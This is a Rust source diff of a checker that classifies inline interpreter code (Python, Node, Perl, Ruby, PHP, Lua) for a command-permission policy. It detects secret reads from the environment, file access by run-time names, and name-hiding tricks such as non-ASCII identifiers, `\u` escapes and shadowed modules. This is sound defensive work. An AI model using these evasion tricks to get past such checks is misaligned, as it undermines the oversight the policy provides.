@@ -1,20 +1,56 @@
 //! Code given to an interpreter on its command line (`python3 -c CODE`, `node -e CODE`,
-//! `perl -e CODE`, `ruby -e CODE`, `php -r CODE`, `lua -e CODE`): whether it is proven to
-//! write, delete and run nothing. Each language is read for what can reach the filesystem or
-//! other programs (modules and functions that write, delete, run programs or reach them
-//! by a name built at run time); code that uses any, or that cannot be read, is unproven.
-//! A Python `open(LITERAL, MODE)` that writes is given back as a write of that literal path,
-//! for the policy to judge.
+//! `perl -e CODE`, `ruby -e CODE`, `php -r CODE`, `lua -e CODE`), judged twice:
+//!
+//! - **Proven** ([`proven`]): every name is on an allow-list of constructs that only compute,
+//!   print, read standard input or read a literal path (given back for the policy to judge as
+//!   a read, with the same secret and workspace checks as `cat`), the options are plain and
+//!   the interpreter's start was checked (strace) to read nothing of the directory: Python
+//!   (imports only of `sys` and `os`, loaded before the directory joins the module path),
+//!   Node (built-in modules; `fs` only to read a literal path) and Perl (read token by token,
+//!   [`super::inline_perl`]). Proven code is modeled and may be allowed.
+//! - **Binding** ([`Inline::unproven`]): code that may run programs, write files not told,
+//!   read secrets (the environment by a name not public, a file named at run time) or reach
+//!   names built at run time. Everything neither proven nor binding is open: an ask in
+//!   default mode, not binding in full access. An import of a module not read here runs that
+//!   module's code as `python3 script.py` runs the script's: open, and binding only through
+//!   what the code then uses of it (its `__version__` only).
+//!
+//! A literal path opened for writing is given back as a write, for the policy to judge.
 
 use crate::shell::{SimpleCommand, Word};
 
 /// What inline code was found to do.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub(crate) struct Inline {
-    /// Why the code may write, delete or run something not proven harmless, if it may.
+    /// Why the code may run programs, write files not told, or read secrets, if it may: a
+    /// binding ask.
     pub unproven: Option<String>,
-    /// Literal paths the code writes (`open("out.txt", "w")`).
+    /// Why the code is not proven to only compute, print and read the files told, if it is
+    /// not (a name outside the allow-lists, an import a file of the directory may shadow,
+    /// an interpreter whose start is not checked here): never allowed, but binding only
+    /// through [`Inline::unproven`].
+    pub unmodeled: Option<String>,
+    /// Literal paths the code writes (`open("out.txt", "w")`, `perl -i FILE`).
     pub writes: Vec<String>,
+    /// Literal paths the code reads (`open("README.md")`, `readFileSync("package.json")`,
+    /// the files `perl -n` reads), for the policy to judge as reads.
+    pub reads: Vec<String>,
+    /// Files of the directory whose presence makes the interpreter run them: modules Python
+    /// may import after its directory joins the module path (printing a traceback imports
+    /// `traceback` in some versions).
+    pub forbids: Vec<String>,
+}
+
+/// Modules the Python interpreter itself may import while `-c` code runs (to print an
+/// error), found first in the directory: a file or package of that name there runs.
+const PYTHON_LAZY_MODULES: &[&str] = &["traceback", "linecache", "tokenize", "token", "_colorize"];
+
+impl Inline {
+    fn unmodeled(&mut self, why: impl Into<String>) {
+        if self.unmodeled.is_none() {
+            self.unmodeled = Some(why.into());
+        }
+    }
 }
 
 /// The languages whose inline code is read.
@@ -59,7 +95,7 @@ fn lang(program: &str) -> Option<(Lang, Flags)> {
                 ..f("eE", &[], "IMmCDix")
             },
         ),
-        "ruby" => (Lang::Ruby, f("e", &[], "IrCEFx0")),
+        "ruby" => (Lang::Ruby, f("e", &[], "IrCEFx0i")),
         "php" => (Lang::Php, f("r", &[], "dcfBREF")),
         "lua" | "luajit" => (Lang::Lua, f("e", &[], "l")),
         "pwsh" | "powershell" => (
@@ -75,26 +111,47 @@ fn lang(program: &str) -> Option<(Lang, Flags)> {
     })
 }
 
-/// The inline code words of `cmd` (`-c CODE`, `-e CODE`, clusters such as `perl -lne CODE`,
+/// A command line of an interpreter as read here.
+#[derive(Default)]
+struct Parsed {
+    /// The inline code words.
+    code: Vec<Word>,
+    /// The modules options load (`perl -MMod`, `ruby -rlib`, `lua -lmod`).
+    modules: Vec<String>,
+    /// Every short option letter seen, valued ones included (`perl -i` gives `i`).
+    letters: String,
+    /// Whether a long option other than a code option was seen.
+    long: bool,
+    /// The backup suffix of an in-place edit (`perl -i.bak`, `ruby -i`), when one is made.
+    inplace: Option<String>,
+    /// The words after the options and the code: the code's arguments (and, for Perl's
+    /// `-n`/`-p`/`<>`, the files it reads).
+    operands: Vec<Word>,
+}
+
+/// The inline code words of `args` (`-c CODE`, `-e CODE`, clusters such as `perl -lne CODE`,
 /// attached `-cCODE`), with the options that load modules (`perl -MMod`, `ruby -rlib`).
-fn code_words(cmd: &SimpleCommand, flags: &Flags) -> (Vec<Word>, Vec<String>) {
-    let args = cmd.args();
-    let mut code = Vec::new();
-    let mut modules = Vec::new();
+fn parse(program: &str, args: &[Word], flags: &Flags) -> Parsed {
+    let mut p = Parsed::default();
     let mut i = 0;
-    if cmd.program() == Some("deno") {
-        return (Vec::new(), Vec::new());
+    if program == "deno" {
+        return p;
     }
     while let Some(w) = args.get(i) {
         i += 1;
         let Some(t) = w.literal() else {
             // A word only known when it runs may be a code option.
-            if code.is_empty() {
-                code.push(w.clone());
+            if p.code.is_empty() {
+                p.code.push(w.clone());
             }
             break;
         };
-        if t == "--" || !t.starts_with('-') || t == "-" {
+        if t == "--" {
+            p.operands = args[i..].to_vec();
+            break;
+        }
+        if !t.starts_with('-') || t == "-" {
+            p.operands = args[i - 1..].to_vec();
             break;
         }
         if let Some(long) = flags
@@ -103,15 +160,16 @@ fn code_words(cmd: &SimpleCommand, flags: &Flags) -> (Vec<Word>, Vec<String>) {
             .find(|l| t == **l || t.strip_prefix(**l).is_some_and(|r| r.starts_with('=')))
         {
             match t.strip_prefix(*long).and_then(|r| r.strip_prefix('=')) {
-                Some(v) => code.push(Word::literal_text(v)),
+                Some(v) => p.code.push(Word::literal_text(v)),
                 None => {
-                    code.extend(args.get(i).cloned());
+                    p.code.extend(args.get(i).cloned());
                     i += 1;
                 }
             }
             continue;
         }
         if t.starts_with("--") {
+            p.long = true;
             continue;
         }
         let mut skip_digits = false;
@@ -119,6 +177,7 @@ fn code_words(cmd: &SimpleCommand, flags: &Flags) -> (Vec<Word>, Vec<String>) {
             if skip_digits && c.is_ascii_digit() {
                 continue;
             }
+            p.letters.push(c);
             skip_digits = flags.digits.contains(c);
             if skip_digits {
                 continue;
@@ -126,11 +185,15 @@ fn code_words(cmd: &SimpleCommand, flags: &Flags) -> (Vec<Word>, Vec<String>) {
             let rest = &t[1 + at + c.len_utf8()..];
             if flags.code.contains(c) {
                 if rest.is_empty() {
-                    code.extend(args.get(i).cloned());
+                    p.code.extend(args.get(i).cloned());
                     i += 1;
                 } else {
-                    code.push(Word::literal_text(rest));
+                    p.code.push(Word::literal_text(rest));
                 }
+                break;
+            }
+            if c == 'i' && matches!(flags.code, "eE" | "e") {
+                p.inplace = Some(rest.to_owned());
                 break;
             }
             if flags.valued.contains(c) {
@@ -140,27 +203,31 @@ fn code_words(cmd: &SimpleCommand, flags: &Flags) -> (Vec<Word>, Vec<String>) {
                 } else {
                     rest
                 };
-                if matches!(c, 'M' | 'm' | 'r') {
-                    modules.push(value.to_owned());
+                if matches!(c, 'M' | 'm' | 'r' | 'l') && !flags.digits.contains(c) {
+                    p.modules.push(value.to_owned());
                 }
                 break;
             }
         }
         // Python's code ends its options: what follows is the code's argv.
-        if flags.code == "c" && !code.is_empty() {
+        if flags.code == "c" && !p.code.is_empty() {
+            p.operands = args[i.min(args.len())..].to_vec();
             break;
         }
     }
-    (code, modules)
+    p
 }
 
 /// What the inline code of `cmd` does ([`Inline`]); `None` when `cmd` runs no inline code
 /// of an interpreter read here.
 pub(crate) fn read(cmd: &SimpleCommand) -> Option<Inline> {
-    let program = cmd.program()?;
+    read_args(cmd.program()?, cmd.args())
+}
+
+/// [`read`] for `program` run with `args`.
+fn read_args(program: &str, args: &[Word]) -> Option<Inline> {
     let (lang, flags) = if program == "deno" {
         // `deno eval CODE`.
-        let args = cmd.args();
         if args.first().and_then(Word::literal) != Some("eval") {
             return None;
         }
@@ -170,31 +237,60 @@ pub(crate) fn read(cmd: &SimpleCommand) -> Option<Inline> {
             .take(1)
             .cloned()
             .collect();
-        return Some(judge(Lang::Node, &code, &[]));
+        let parsed = Parsed {
+            code,
+            ..Parsed::default()
+        };
+        let mut out = judge(Lang::Node, &parsed);
+        out.unmodeled("`deno` reads configuration and import maps from the directory");
+        return Some(out);
     } else {
         lang(program)?
     };
-    let (code, modules) = code_words(cmd, &flags);
-    if code.is_empty() {
+    let parsed = parse(program, args, &flags);
+    if parsed.code.is_empty() {
         return None;
     }
-    Some(judge(lang, &code, &modules))
+    let mut out = judge(lang, &parsed);
+    if matches!(program, "bun" | "pypy" | "pypy3") {
+        out.unmodeled(format!("the start of `{program}` is not checked here"));
+    }
+    Some(out)
 }
 
-fn judge(lang: Lang, code: &[Word], modules: &[String]) -> Inline {
+/// The paths the inline code of `program args…` reads and writes, when it is proven to only
+/// compute, print and read them (Python, Node and Perl, whose start was checked to read
+/// nothing of the directory but what the code names); `None` when the command runs no
+/// inline code; `Err` why it is not proven.
+pub(crate) fn proven(program: &str, args: &[Word]) -> Option<Result<Inline, String>> {
+    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    let found = read_args(program, args)?;
+    Some(match (&found.unproven, &found.unmodeled) {
+        (Some(why), _) | (None, Some(why)) => Err(why.clone()),
+        _ if !matches!(base, "python" | "node" | "nodejs" | "perl") => {
+            Err(format!("the start of `{program}` is not checked here"))
+        }
+        _ => Ok(found),
+    })
+}
+
+fn judge(lang: Lang, parsed: &Parsed) -> Inline {
     let mut out = Inline::default();
-    for word in code {
+    for word in &parsed.code {
         let Some(text) = word.literal() else {
             out.unproven = Some("its code is only known when it runs".to_owned());
             return out;
         };
         let why = match lang {
-            Lang::Python => python(text, &mut out.writes),
-            Lang::Node => node(text),
-            Lang::Perl => perl(text, modules),
-            Lang::Ruby => ruby(text, modules),
-            Lang::Php => php_calls(text).or_else(|| allowed_only(text, PHP_SAFE)),
-            Lang::Lua => allowed_only(text, LUA_SAFE),
+            Lang::Python => python(text, parsed, &mut out),
+            Lang::Node => node(text, parsed, &mut out),
+            Lang::Perl => perl(text, parsed, &mut out),
+            Lang::Ruby => ruby(text, parsed, &mut out),
+            Lang::Php => {
+                out.unmodeled("PHP's start is not checked here");
+                php_calls(text).or_else(|| allowed_only(text, PHP_SAFE))
+            }
+            Lang::Lua => lua(text, parsed, &mut out),
             Lang::Other => Some("its code is in a language not read here".to_owned()),
         };
         if why.is_some() {
@@ -857,6 +953,16 @@ const PYTHON_MODULE_ATTRS: &[(&str, &[&str])] = &[
     ),
     ("tomllib", &["TOMLDecodeError", "load", "loads"]),
     (
+        "yaml",
+        &[
+            "YAMLError",
+            "safe_dump",
+            "safe_dump_all",
+            "safe_load",
+            "safe_load_all",
+        ],
+    ),
+    (
         "operator",
         &[
             "abs",
@@ -1234,18 +1340,152 @@ fn next_is(code: &str, at: usize, c: char) -> Option<usize> {
     rest.strip_prefix(c).map(|r| code.len() - r.len())
 }
 
-fn python(code: &str, writes: &mut Vec<String>) -> Option<String> {
+/// Modules always loaded when Python starts, before the directory of `-c` code joins the
+/// module path: importing them finds no file of the directory. Any other module may be
+/// shadowed by a file there (`json.py`), which then runs.
+const PYTHON_PRELOADED: &[&str] = &["sys", "os", "os.path"];
+
+/// Standard modules whose import alone runs a program (a browser, a window).
+const PYTHON_IMPORT_RUNS: &[&str] = &["antigravity", "idlelib", "turtledemo", "tkinter"];
+
+/// Python's options that change nothing of what `-c` code reaches (`-B`, `-E`, `-s`, `-u`,
+/// `-q`, `-I`); `-S` leaves `os` unloaded, so that importing it searches the directory.
+const PYTHON_PLAIN_OPTIONS: &str = "cBEsuqI";
+
+/// The argument `arg` of a call as a path: a string literal, or `sys.argv[K]` /
+/// `process.argv[K]` naming a literal operand (`None`: named at run time).
+fn path_argument(arg: &str, argv: &str, operands: &[Word]) -> Option<String> {
+    if let Some(t) = string_literal(arg) {
+        return Some(t.to_owned());
+    }
+    let k: usize = arg
+        .trim()
+        .strip_prefix(argv)?
+        .strip_prefix('[')?
+        .strip_suffix(']')?
+        .trim()
+        .parse()
+        .ok()?;
+    operands
+        .get(k.checked_sub(1)?)?
+        .literal()
+        .map(str::to_owned)
+}
+
+/// Why `os.getenv(…)` / `os.environ[…]` / `os.environ.get(…)` after `at` may read a secret:
+/// only a literal public name ([`crate::shell::public_variable`]) is read here.
+fn python_env_secret(code: &str, attr: &str, at: usize) -> bool {
+    let rest = code[at..].trim_start();
+    let name = match attr {
+        "getenv" => call_args(code, at).and_then(|a| a.first().cloned()),
+        _ => {
+            if let Some(r) = rest.strip_prefix('[') {
+                r.split_once(']').map(|(n, _)| n.to_owned())
+            } else {
+                let get = next_is(code, at, '.')
+                    .and_then(|p| ident_at(code, p))
+                    .filter(|(a, _)| *a == "get");
+                get.and_then(|(_, after)| call_args(code, after))
+                    .and_then(|a| a.first().cloned())
+            }
+        }
+    };
+    !name
+        .as_deref()
+        .and_then(string_literal)
+        .is_some_and(crate::shell::public_variable)
+}
+
+/// Whether Python code has a character outside ASCII outside its strings and comments:
+/// Python reads names in their NFKC form, so that `ｅｘｅｃ` is `exec`.
+fn python_non_ascii_name(code: &str) -> bool {
+    let mut chars = code.char_indices().peekable();
+    while let Some((at, c)) = chars.next() {
+        match c {
+            '#' => while chars.next_if(|(_, c)| *c != '\n').is_some() {},
+            '\'' | '"' => {
+                // An f-string's fields are code.
+                let prefix = code[..at].trim_end_matches(|p: char| p.is_ascii_alphabetic());
+                let fstring = code[prefix.len()..at].contains(['f', 'F']);
+                let triple = code[at..].starts_with(&c.to_string().repeat(3));
+                let close = if triple {
+                    c.to_string().repeat(3)
+                } else {
+                    c.to_string()
+                };
+                if triple {
+                    chars.next();
+                    chars.next();
+                }
+                loop {
+                    match chars.next() {
+                        Some((_, '\\')) => {
+                            chars.next();
+                        }
+                        Some((k, x)) if x == c && code[k..].starts_with(&close) => {
+                            for _ in 1..close.len() {
+                                chars.next();
+                            }
+                            break;
+                        }
+                        Some((_, '\n')) if !triple => return true,
+                        Some((_, x)) if fstring && !x.is_ascii() => return true,
+                        Some(_) => {}
+                        None => return true,
+                    }
+                }
+            }
+            c if !c.is_ascii() => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
+fn python(code: &str, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    for m in PYTHON_LAZY_MODULES {
+        for name in [format!("{m}.py"), format!("{m}.pyc"), (*m).to_owned()] {
+            if !out.forbids.contains(&name) {
+                out.forbids.push(name);
+            }
+        }
+    }
+    if python_non_ascii_name(code) {
+        return Some(
+            "it has a character outside ASCII outside its strings, which Python may read as another name"
+                .to_owned(),
+        );
+    }
     let ids = identifiers(code);
-    for (id, _) in &ids {
+    for (id, at) in &ids {
+        let attribute = code[..at - id.len()].trim_end().ends_with('.');
+        if *id == "__version__" && attribute {
+            continue;
+        }
         if id.len() > 1 && id.starts_with('_') || PYTHON_DYNAMIC.contains(id) {
             return Some(format!(
                 "it uses `{id}`, which reaches code, modules or names built at run time"
             ));
         }
     }
+    if let Some(c) = parsed
+        .letters
+        .chars()
+        .find(|c| !PYTHON_PLAIN_OPTIONS.contains(*c))
+    {
+        out.unmodeled(format!("it is run with the option `-{c}`"));
+    }
+    if parsed.long {
+        out.unmodeled("it is run with a long option");
+    }
+    if !parsed.operands.is_empty() {
+        out.unmodeled("its code is given arguments");
+    }
     // Names bound to modules, and the spans of the import statements.
     let mut bound: Vec<(String, String)> = Vec::new();
     let mut spans: Vec<(usize, usize)> = Vec::new();
+    // Names bound to `pathlib.Path`.
+    let mut path_names: Vec<String> = Vec::new();
     for (id, at) in &ids {
         if *id != "import" {
             continue;
@@ -1273,13 +1513,34 @@ fn python(code: &str, writes: &mut Vec<String>) -> Option<String> {
                 [n, "as", a] => (n, Some(a)),
                 _ => return Some("it imports in a way not read here".to_owned()),
             };
+            let module = from.unwrap_or(name);
+            if PYTHON_IMPORT_RUNS
+                .iter()
+                .any(|r| module == *r || module.starts_with(&format!("{r}.")))
+            {
+                return Some(format!("importing `{module}` runs a program"));
+            }
+            if !(PYTHON_PRELOADED.contains(&module) || from == Some("os") && name == "path") {
+                out.unmodeled(format!(
+                    "it imports `{module}`, which a file of the directory may shadow"
+                ));
+            }
             match from {
                 Some("os") if name == "path" => {
                     bound.push((alias.unwrap_or(name).to_owned(), "os.path".to_owned()));
                 }
+                Some("pathlib") if name == "Path" => {
+                    path_names.push(alias.unwrap_or(name).to_owned());
+                }
                 Some(m) if python_attr_allowed(m, name) => {}
                 Some(m) => return Some(format!("it imports `{name}` from `{m}`")),
-                None if python_module_known(name) => {
+                None => {
+                    if !python_module_known(name) {
+                        // A module not read here runs its own code when imported, as a
+                        // script of the workspace or the system would: unproven, and only
+                        // its version may be used.
+                        out.unmodeled(format!("it imports `{name}`, whose code runs then"));
+                    }
                     let (b, m) = match alias {
                         Some(a) => (a, name),
                         None => {
@@ -1289,7 +1550,6 @@ fn python(code: &str, writes: &mut Vec<String>) -> Option<String> {
                     };
                     bound.push((b.to_owned(), m.to_owned()));
                 }
-                None => return Some(format!("it imports `{name}`")),
             }
         }
     }
@@ -1318,12 +1578,40 @@ fn python(code: &str, writes: &mut Vec<String>) -> Option<String> {
                 pos = after;
                 continue;
             }
+            if module == "os" && matches!(attr, "getenv" | "environ") {
+                if python_env_secret(code, attr, after) {
+                    return Some(
+                        "it reads the environment, which may hold secrets, by a name not known to be public"
+                            .to_owned(),
+                    );
+                }
+                break;
+            }
+            if module == "pathlib" && attr == "Path" {
+                if let Some(why) = path_uses(code, after, parsed, out) {
+                    return Some(why);
+                }
+                break;
+            }
+            if attr == "__version__" {
+                break;
+            }
             if !python_attr_allowed(&module, attr) {
                 return Some(format!(
                     "it uses `{module}.{attr}`, not known to only compute"
                 ));
             }
             break;
+        }
+    }
+    for (id, at) in &ids {
+        let start = at - id.len();
+        if path_names.iter().any(|n| n == id)
+            && !spans.iter().any(|(s, e)| (*s..*e).contains(&start))
+            && !code[..start].trim_end().ends_with('.')
+            && let Some(why) = path_uses(code, *at, parsed, out)
+        {
+            return Some(why);
         }
     }
     for (k, (id, _)) in ids.iter().enumerate() {
@@ -1333,8 +1621,18 @@ fn python(code: &str, writes: &mut Vec<String>) -> Option<String> {
                 return Some("it uses `open` other than by calling it".to_owned());
             };
             match open_writes(&args) {
-                None => {}
-                Some(Some(path)) => writes.push(path),
+                None => match args
+                    .first()
+                    .and_then(|a| path_argument(a, "sys.argv", &parsed.operands))
+                {
+                    Some(path) => out.reads.push(path),
+                    None => {
+                        return Some(
+                            "it opens a file named at run time, which may be a secret".to_owned(),
+                        );
+                    }
+                },
+                Some(Some(path)) => out.writes.push(path),
                 Some(None) => {
                     return Some("it opens for writing a file named at run time".to_owned());
                 }
@@ -1342,6 +1640,58 @@ fn python(code: &str, writes: &mut Vec<String>) -> Option<String> {
         }
     }
     None
+}
+
+/// `Path(PATH).read_text()` (`read_bytes`, `exists`, `is_file`, `is_dir`) after the name
+/// `Path` ending at `at`: a read of a literal path, or of nothing; any other use of a
+/// `Path` (writing, deleting, a path built at run time) is not read here.
+fn path_uses(code: &str, at: usize, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    let not_read = || Some("it uses `pathlib.Path` other than to read a literal path".to_owned());
+    let Some(args) = call_args(code, at) else {
+        return not_read();
+    };
+    let Some(path) = (args.len() == 1)
+        .then(|| path_argument(&args[0], "sys.argv", &parsed.operands))
+        .flatten()
+    else {
+        return Some("it makes a `pathlib.Path` of a path named at run time".to_owned());
+    };
+    // The offset after the call's closing parenthesis.
+    let Some(open) = code[at..].find('(').map(|o| at + o) else {
+        return not_read();
+    };
+    let mut depth = 0usize;
+    let mut close = None;
+    let mut quote: Option<char> = None;
+    for (k, c) in code[open..].char_indices() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, '(') => depth += 1,
+            (None, ')') => {
+                depth -= 1;
+                if depth == 0 {
+                    close = Some(open + k + 1);
+                    break;
+                }
+            }
+            _ => {}
+        }
+    }
+    let method = close
+        .and_then(|c| next_is(code, c, '.'))
+        .and_then(|p| ident_at(code, p));
+    match method {
+        Some(("read_text" | "read_bytes", after)) if next_is(code, after, '(').is_some() => {
+            out.reads.push(path);
+            None
+        }
+        Some(("exists" | "is_file" | "is_dir", after)) if next_is(code, after, '(').is_some() => {
+            None
+        }
+        _ => not_read(),
+    }
 }
 
 /// The arguments of the call whose name ends at `at` (`open(` …`)`), split at the commas
@@ -1554,38 +1904,195 @@ fn node_computed_access(code: &str) -> Option<String> {
     None
 }
 
-fn node(code: &str) -> Option<String> {
+/// Free names (not members, not object keys) that Node code proven to only compute, print
+/// and read may use besides the names it declares: values, constructors of values, the
+/// console, keywords.
+const NODE_PROVEN_NAMES: &[&str] = &[
+    "console",
+    "JSON",
+    "Math",
+    "Object",
+    "Array",
+    "String",
+    "Number",
+    "Boolean",
+    "Date",
+    "RegExp",
+    "Map",
+    "Set",
+    "BigInt",
+    "Buffer",
+    "parseInt",
+    "parseFloat",
+    "isNaN",
+    "isFinite",
+    "encodeURIComponent",
+    "decodeURIComponent",
+    "encodeURI",
+    "decodeURI",
+    "undefined",
+    "null",
+    "true",
+    "false",
+    "NaN",
+    "Infinity",
+    "require",
+    "process",
+    "const",
+    "let",
+    "var",
+    "new",
+    "return",
+    "typeof",
+    "instanceof",
+    "of",
+    "in",
+    "for",
+    "if",
+    "else",
+    "while",
+    "break",
+    "continue",
+    "__dirname",
+    "__filename",
+];
+
+/// Node modules whose functions proven code may call.
+const NODE_PROVEN_MODULES: &[&str] = &[
+    "path",
+    "util",
+    "url",
+    "querystring",
+    "assert",
+    "buffer",
+    "string_decoder",
+    "crypto",
+];
+
+/// The functions of `fs` read here: `readFileSync(PATH[, ENCODING])` reads the literal
+/// path, `existsSync(PATH)` only looks at it.
+const NODE_FS_READS: &[&str] = &["readFileSync", "existsSync"];
+
+/// A call `.readFileSync(…)` / `.existsSync(…)` after `at` (`require("fs")` or a name bound
+/// to it ending there): the path it reads, or why it is not read here.
+fn node_fs_call(code: &str, at: usize, parsed: &Parsed, out: &mut Inline) -> Option<String> {
+    let not_read = || Some("it uses `fs` other than to read a literal path".to_owned());
+    let Some((method, after)) = next_is(code, at, '.').and_then(|p| ident_at(code, p)) else {
+        return not_read();
+    };
+    if !NODE_FS_READS.contains(&method) {
+        return not_read();
+    }
+    let Some(args) = call_args(code, after) else {
+        return not_read();
+    };
+    // An options object may open for writing (`{flag: "w"}`): only an encoding is read.
+    if args.len() > 2 || args.len() == 2 && string_literal(&args[1]).is_none() {
+        return not_read();
+    }
+    match args
+        .first()
+        .and_then(|a| path_argument(a, "process.argv", &parsed.operands))
+    {
+        Some(path) if method == "readFileSync" => {
+            out.reads.push(path);
+            None
+        }
+        Some(_) => None,
+        None => Some("it reads a file named at run time, which may be a secret".to_owned()),
+    }
+}
+
+/// The name a declaration binds to the value starting at `start` (`const fs = require(…)`).
+fn declared_name(code: &str, start: usize) -> Option<&str> {
+    let before = code[..start].trim_end().strip_suffix('=')?.trim_end();
+    let name_start = before
+        .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
+        .map_or(0, |p| p + 1);
+    let name = &before[name_start..];
+    let keyword = before[..name_start].trim_end();
+    (["const", "let", "var"].iter().any(|k| keyword.ends_with(k)) && !name.is_empty())
+        .then_some(name)
+}
+
+fn node(code: &str, parsed: &Parsed, out: &mut Inline) -> Option<String> {
     if let Some(why) = node_computed_access(code) {
         return Some(why);
     }
-    for (id, at) in identifiers(code) {
+    // `\u0072equire` is `require`.
+    if code.contains("\\u") {
+        return Some("it has an escape, which may spell a name".to_owned());
+    }
+    let ids = identifiers(code);
+    let mut fs_names: Vec<&str> = Vec::new();
+    for &(id, at) in &ids {
         if NODE_UNSAFE.contains(&id)
             || id.starts_with("__") && !matches!(id, "__dirname" | "__filename")
         {
             return Some(format!("it uses `{id}`"));
         }
-        if id == "process" {
+        let member = code[..at - id.len()].trim_end().ends_with('.');
+        if id == "process" && !member {
             let attr = next_is(code, at, '.').and_then(|p| ident_at(code, p));
-            if !attr.is_some_and(|(a, _)| NODE_PROCESS_ATTRS.contains(&a))
-                && !code[..at - id.len()].trim_end().ends_with('.')
-            {
-                return Some("it uses `process` other than by a known attribute".to_owned());
+            match attr {
+                Some(("env", after)) => {
+                    let name = next_is(code, after, '.').and_then(|p| ident_at(code, p));
+                    if !name.is_some_and(|(n, _)| crate::shell::public_variable(n)) {
+                        return Some(
+                            "it reads the environment, which may hold secrets, by a name not known to be public"
+                                .to_owned(),
+                        );
+                    }
+                }
+                Some((a, _)) if NODE_PROCESS_ATTRS.contains(&a) => {}
+                _ => {
+                    return Some("it uses `process` other than by a known attribute".to_owned());
+                }
             }
         }
         if id == "require" {
             let arg = call_args(code, at)
                 .and_then(|a| (a.len() == 1).then(|| a[0].clone()))
                 .and_then(|a| string_literal(&a).map(str::to_owned));
+            let module = arg.as_deref().map(|m| m.strip_prefix("node:").unwrap_or(m));
+            let start = at - id.len();
+            let close = code[at..].find(')').map(|c| at + c + 1);
+            if module == Some("fs") {
+                // `require("fs").readFileSync(…)`, or `const fs = require("fs")` whose
+                // every use is checked below.
+                match (declared_name(code, start), close) {
+                    (Some(name), Some(c)) if next_is(code, c, '.').is_none() => {
+                        fs_names.push(name);
+                    }
+                    (_, Some(c)) => {
+                        if let Some(why) = node_fs_call(code, c, parsed, out) {
+                            return Some(why);
+                        }
+                    }
+                    _ => return Some("it uses `fs` in a way not read here".to_owned()),
+                }
+                continue;
+            }
             // A file of the workspace named by a literal relative path runs or reads what
             // `node ./file` would, which is judged as running the workspace's own code.
-            let safe = arg.as_deref().is_some_and(|m| {
-                NODE_SAFE_MODULES.contains(&m.strip_prefix("node:").unwrap_or(m))
-                    || m.starts_with("./") && !m.split(['/', '\\']).any(|c| c == "..")
-            });
-            if !safe {
+            let relative = module
+                .is_some_and(|m| m.starts_with("./") && !m.split(['/', '\\']).any(|c| c == ".."));
+            if relative {
+                out.unmodeled(
+                    "it loads a file of the directory, which may be a directory or a name with an extension added that runs code",
+                );
+            }
+            let safe = module.is_some_and(|m| NODE_SAFE_MODULES.contains(&m));
+            if !safe && !relative {
                 return Some(format!(
                     "it loads `{}`",
                     arg.as_deref().unwrap_or("a module named at run time")
+                ));
+            }
+            if !module.is_some_and(|m| NODE_PROVEN_MODULES.contains(&m)) {
+                out.unmodeled(format!(
+                    "it loads `{}`, whose functions are not all read here",
+                    arg.as_deref().unwrap_or_default()
                 ));
             }
         }
@@ -1593,7 +2100,103 @@ fn node(code: &str) -> Option<String> {
             return Some("it loads a module by name".to_owned());
         }
     }
+    // Every use of a name bound to `fs` is a read of a literal path.
+    for &(id, at) in &ids {
+        let start = at - id.len();
+        let quoted = code[..start].ends_with(['"', '\'']);
+        let before = code[..start].trim_end();
+        let after = code[at..].trim_start();
+        let declaration = ["const", "let", "var"].iter().any(|k| before.ends_with(k))
+            && after.starts_with('=')
+            && !after.starts_with("==");
+        if fs_names.contains(&id)
+            && !quoted
+            && !before.ends_with('.')
+            && !declaration
+            && let Some(why) = node_fs_call(code, at, parsed, out)
+        {
+            return Some(why);
+        }
+    }
+    node_proof(code, parsed, out);
     None
+}
+
+/// Marks Node code unmodeled unless every free name it uses is one it declares or one of
+/// [`NODE_PROVEN_NAMES`] (`fetch`, `WebSocket`, timers are not), with plain options and
+/// no arguments. Strings are skipped; code with a `/` (a pattern or a comment may hide a
+/// quote) or a template literal is not read.
+fn node_proof(code: &str, parsed: &Parsed, out: &mut Inline) {
+    if parsed.letters.chars().any(|c| !"ep".contains(c)) || parsed.long {
+        out.unmodeled("it is run with options not read here");
+    }
+    if !parsed.operands.is_empty() {
+        out.unmodeled("its code is given arguments");
+    }
+    if code.contains(['/', '`']) {
+        return out.unmodeled("it has a `/` or a template literal, not read here");
+    }
+    // The code with its strings blanked.
+    let mut bare = String::with_capacity(code.len());
+    let mut quote: Option<char> = None;
+    let mut escaped = false;
+    for c in code.chars() {
+        match quote {
+            Some(q) => {
+                if escaped {
+                    escaped = false;
+                } else if c == '\\' {
+                    escaped = true;
+                } else if c == q {
+                    quote = None;
+                }
+                bare.push(if quote.is_none() { c } else { ' ' });
+            }
+            None => {
+                if matches!(c, '\'' | '"') {
+                    quote = Some(c);
+                }
+                bare.push(c);
+            }
+        }
+    }
+    if quote.is_some() {
+        return out.unmodeled("a string is not closed");
+    }
+    let ids = identifiers(&bare);
+    let mut declared: Vec<&str> = Vec::new();
+    for (k, &(id, at)) in ids.iter().enumerate() {
+        if k > 0 && matches!(ids[k - 1].0, "const" | "let" | "var") {
+            declared.push(id);
+        }
+        let rest = bare[at..].trim_start();
+        if rest.starts_with("=>") {
+            declared.push(id);
+        }
+    }
+    // `(a, b) =>`: the parameters of an arrow function.
+    for (i, _) in bare.match_indices("=>") {
+        let before = bare[..i].trim_end();
+        if let Some(inner) = before.strip_suffix(')')
+            && let Some(open) = inner.rfind('(')
+        {
+            declared.extend(identifiers(&bare[open..]).into_iter().map(|(id, _)| id));
+        }
+    }
+    for &(id, at) in &ids {
+        let start = at - id.len();
+        let before = bare[..start].trim_end();
+        let member = before.ends_with('.');
+        let key = (before.ends_with('{') || before.ends_with(','))
+            && bare[at..].trim_start().starts_with(':');
+        if member || key || declared.contains(&id) || NODE_PROVEN_NAMES.contains(&id) {
+            continue;
+        }
+        return out.unmodeled(format!("it uses `{id}`, not known to only compute"));
+    }
+    if ids.iter().any(|(id, _)| *id == "setPriority") {
+        out.unmodeled("it changes a process's priority");
+    }
 }
 
 /// Perl functions that write, delete, run programs or code built at run time.
@@ -1648,12 +2251,112 @@ const PERL_SAFE_MODULES: &[&str] = &[
     "JSON::PP",
 ];
 
-fn perl(code: &str, modules: &[String]) -> Option<String> {
